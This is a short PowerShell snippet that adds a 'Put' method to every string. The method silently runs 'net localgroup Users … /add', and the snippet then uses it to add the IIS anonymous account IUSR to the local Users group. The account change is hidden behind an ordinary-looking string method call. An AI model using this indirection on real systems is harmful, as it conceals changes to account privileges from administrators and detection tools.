Update-TypeData -TypeName System.String -MemberType ScriptMethod -MemberName Put -Value { net localgroup Users $this /add }
'IUSR'.Put()
